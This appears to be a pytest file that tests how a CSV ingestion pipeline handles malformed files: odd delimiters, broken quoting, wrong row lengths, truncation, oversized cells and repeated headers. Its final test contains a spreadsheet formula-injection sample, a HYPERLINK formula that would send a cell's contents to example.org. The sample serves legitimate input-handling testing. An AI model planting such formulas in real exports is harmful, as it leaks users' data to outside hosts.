"""CSV whose lines do not divide as declared. One case per row of "Shape of CSV" in the catalogue."""

from __future__ import annotations

import pytest

from tests.ingest.dock import HEADER, LI, TITLES, WANG, ZOE, Dock, csv, line


@pytest.mark.parametrize(("delimiter", "named"), [(";", "';'"), ("\t", "tab"), ("|", "'|'")])
def test_another_delimiter(dock: Dock, delimiter: str, named: str) -> None:
    dock.deliver("members_1.csv", csv(WANG, LI).replace(",", delimiter))
    dock.refuses("members_1.csv", "'member_no'", f"delimiter is {named}", "','")


def test_delimiter_in_unquoted_text(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, line(LI, name="Li, Xiaoyun"), ZOE))
    dock.loads(read=3, accepted=2, quarantined=1)
    assert dock.raw() == [WANG, ZOE]
    dock.quarantines(
        2, None, "unreadable row", keeps=[line(LI, name="Li, Xiaoyun")], says=["line 3", "8", "7"], hides=["Xiaoyun"]
    )


def test_quote_that_is_never_closed(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, line(LI, name='"李晓云'), ZOE))
    dock.loads(read=3, accepted=2, quarantined=1)
    assert dock.raw() == [WANG, ZOE]
    dock.quarantines(2, "name", "unreadable row", keeps=['M-002,"李晓云,13912345671'], says=["line 3", "quote"])


def test_quote_closed_by_that_of_a_later_row(dock: Dock) -> None:
    quoted = line(ZOE, name='"Keller, Zoë"')
    dock.deliver("members_1.csv", csv(line(LI, name='"李晓云'), WANG, quoted))
    dock.loads(read=3, accepted=2, quarantined=1)
    assert dock.raw() == [WANG, ZOE | {"name": "Keller, Zoë"}]
    dock.quarantines(1, "name", "unreadable row", keeps=['M-002,"李晓云,13912345671'], says=["line 2", "quote"])


def test_text_after_a_closing_quote(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, line(LI, name='"李"晓云'), ZOE))
    dock.loads(read=3, accepted=2, quarantined=1)
    assert dock.raw() == [WANG, ZOE]
    dock.quarantines(2, "name", "unreadable row", keeps=['M-002,"李"晓云'], says=["line 3", "quote"])


def test_two_quoted_texts_in_one_cell(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, line(LI, name='"李" "晓云"'), line(ZOE, name='"Zoë ""Zo"" ""Ke"" Keller"')))
    dock.loads(read=3, accepted=2, quarantined=1)
    assert dock.raw() == [WANG, ZOE | {"name": 'Zoë "Zo" "Ke" Keller'}]
    dock.quarantines(2, "name", "unreadable row", keeps=['"李" "晓云"'], says=["line 3", "quote"])


def test_quote_inside_an_unquoted_cell(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, line(ZOE, name='Zoë "Zo" Keller'), line(LI, name='李晓云"')))
    dock.loads(read=3, accepted=3)
    assert dock.raw() == [WANG, ZOE | {"name": 'Zoë "Zo" Keller'}, LI | {"name": '李晓云"'}]


def test_doubled_quotes(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, line(ZOE, name='"Zoë ""Zo"" Keller"'), line(LI, name='"""云"""')))
    dock.loads(read=3, accepted=3)
    assert dock.raw() == [WANG, ZOE | {"name": 'Zoë "Zo" Keller'}, LI | {"name": '"云"'}]


def test_short_rows(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, "M-002,李晓云", ZOE, "M-004"))
    dock.loads(read=4, accepted=2, quarantined=2)
    assert dock.raw() == [WANG, ZOE]
    dock.quarantines(2, "mobile", "unreadable row", keeps=["M-002,李晓云"], says=["line 3", "2", "7"])
    dock.quarantines(4, "name", "unreadable row", keeps=["M-004"], says=["line 5", "1", "7"])


def test_long_rows(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, line(LI) + ",,x", ZOE))
    dock.loads(read=3, accepted=2, quarantined=1)
    assert dock.raw() == [WANG, ZOE]
    dock.quarantines(2, None, "unreadable row", keeps=[line(LI) + ",,x"], says=["line 3", "9", "7"])


def test_delimiters_too_many_at_the_end(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, line(LI) + ",,"))
    dock.loads(read=2, accepted=2)
    dock.deliver("members_2.csv", csv("M-009", line(ZOE) + ",,"))  # so also on the slow way that the short row asks for
    dock.loads(read=2, accepted=1, quarantined=1)
    assert dock.raw() == [WANG, LI, ZOE]
    dock.quarantines(1, "name", "unreadable row", keeps=["M-009"], file="members_2.csv")


def test_line_break_in_a_quoted_cell(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(line(ZOE, name='"Zoë\nKeller\n\n"'), WANG, line(LI, points="viele")))
    dock.loads(read=3, accepted=2, quarantined=1)
    assert dock.raw() == [ZOE | {"name": "Zoë\nKeller\n\n"}, WANG]
    dock.quarantines(3, "points", "not an integer", keeps=["M-002"], says=["'viele'"])


def test_line_break_in_an_unquoted_cell(dock: Dock) -> None:
    first, second = line(LI, name="李\n晓云").split("\n")
    dock.deliver("members_1.csv", csv(WANG, first, second, ZOE))
    dock.loads(read=4, accepted=2, quarantined=2)
    assert dock.raw() == [WANG, ZOE]
    dock.quarantines(2, "mobile", "unreadable row", keeps=[first])
    dock.quarantines(3, "changed", "unreadable row", keeps=[second])


def test_mixed_line_ends(dock: Dock) -> None:
    dock.deliver("members_1.csv", f"{HEADER}\r\n{line(WANG)}\n{line(LI)}\r{line(ZOE)}\r\n")
    dock.loads(read=3, accepted=3)
    assert dock.raw() == [WANG, LI, ZOE]


def test_blank_lines(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv("", WANG, "", "   ", line(LI, points="x"), "\t", ""))
    dock.loads(read=2, accepted=1, quarantined=1)
    assert dock.raw() == [WANG]
    dock.quarantines(2, "points", "not an integer", keeps=["M-002"])


def test_rows_of_delimiters_only(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, "," * 6, LI, '"",,,,,,'))
    dock.loads(read=4, accepted=2, quarantined=2)
    assert dock.raw() == [WANG, LI]
    dock.quarantines(2, "member_no", "missing key", keeps=["member_no"])
    dock.quarantines(4, "member_no", "missing key", keeps=["member_no"])


def test_header_repeated_in_the_middle(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, HEADER, LI, HEADER.replace(",", " , ")))
    dock.loads(read=4, accepted=2, quarantined=2)
    assert dock.raw() == [WANG, LI]
    dock.quarantines(2, "member_no", "repeated header", keeps=TITLES)
    dock.quarantines(4, "member_no", "repeated header", keeps=TITLES)


def test_no_header(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(LI, ZOE, header=line(WANG)))
    dock.refuses("members_1.csv", "'member_no'", "header row")


def test_caption_above_the_header(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(HEADER, WANG, header="会员导出 2024-03-31"))
    dock.refuses("members_1.csv", "'member_no'", "line 2", hides=["会员导出"])


def test_total_below_the_rows(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, LI, "合计,,,,12.5,300,"))
    dock.loads(read=3, accepted=2, quarantined=1)
    assert dock.raw() == [WANG, LI]
    dock.quarantines(3, "changed", "missing value", keeps=["合计"])


def test_truncated_csv(dock: Dock) -> None:
    whole = csv(WANG, LI, ZOE)
    dock.deliver("members_1.csv", whole[: whole.index("1975") + 3])
    dock.refuses("members_1.csv", "is truncated", "column 'born'", "line 4")


def test_csv_truncated_in_a_quoted_cell(dock: Dock) -> None:
    dock.deliver("members_1.csv", csv(WANG, LI) + 'M-003,"Zoë Ke')
    dock.refuses("members_1.csv", "is truncated", "column 'name'", "line 4", hides=["Zoë Ke"])


def test_cell_of_ten_million_characters(dock: Dock) -> None:
    long = "王" * 10_000_000
    dock.deliver("members_1.csv", csv(WANG, line(LI, name=long), ZOE))
    dock.loads(read=3, accepted=2, quarantined=1)
    assert dock.raw() == [WANG, ZOE]
    dock.quarantines(2, "name", "value too long", keeps=["M-002", long], says=["30000000 bytes", "1,000,000"])


def test_row_that_no_reader_takes(dock: Dock, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("dagster_project.ingest.records.MAX_RECORD", 3_000_000)
    dock.deliver("members_1.csv", csv(WANG, line(LI, name="x" * 4_000_000), ZOE))
    dock.loads(read=3, accepted=2, quarantined=1)
    assert dock.raw() == [WANG, ZOE]
    dock.quarantines(2, None, "value too long", keeps=["M-002"], says=["line 3", "4,000,0"])


def test_a_thousand_columns(dock: Dock) -> None:
    extra = [f"field_{number}" for number in range(1000)]
    values = "," + ",".join(str(number) for number in range(1000))
    dock.deliver("members_1.csv", csv(line(WANG) + values, line(LI) + values, header=",".join([HEADER, *extra])))
    dock.loads(read=2, accepted=2)
    assert dock.raw() == [WANG, LI]
    assert [len(row or {}) for row in dock.undeclared()] == [1000, 1000]
    assert (dock.undeclared()[1] or {})["field_999"] == "999"


def test_formula_in_a_cell(dock: Dock) -> None:
    formula = '=HYPERLINK("http://example.org/?"&B2;"click")'
    dock.deliver("members_1.csv", csv(line(WANG, name='"' + formula.replace('"', '""') + '"'), line(LI, points="=1+1")))
    dock.loads(read=2, accepted=1, quarantined=1)
    assert dock.raw() == [WANG | {"name": formula}]
    dock.quarantines(2, "points", "not an integer", keeps=["M-002"], says=["'=1+1'"])
